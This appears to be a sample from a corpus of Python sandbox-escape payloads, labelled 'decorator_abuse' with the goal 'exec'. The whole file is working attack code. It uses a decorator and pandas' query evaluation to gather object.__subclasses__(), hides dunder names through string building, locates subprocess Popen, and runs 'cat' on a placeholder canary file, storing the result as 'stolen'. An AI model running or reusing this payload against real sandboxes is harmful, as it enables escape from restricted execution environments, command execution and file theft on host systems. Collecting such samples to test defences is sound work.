# class: decorator_abuse
# technique: @run decorator: the decorated function supplies the local for a query expression run as [frame.agg][0]('query', ...), whose side effect collects object.__subclasses__()
# goal: exec
import functools

import numpy as np
import pandas as pd

u = "_" * 2
frame = pd.DataFrame({"x": np.arange(2)})
box = []


def run(fn):
    try:
        [frame.agg][0]("query", 0, "@box.append(@o." + u + "subclasses" + u + "())",
                   local_dict={"box": box, "o": fn()})
    except Exception:
        pass
    return box


@run
def walked():
    return object


popen_cls = [c for c in walked[0] if str(c).endswith("Popen'>")][0]
df = pd.DataFrame({"stolen": [popen_cls(["cat", "{{CANARY_FILE}}"], stdout=-1).communicate()[0].decode()]})
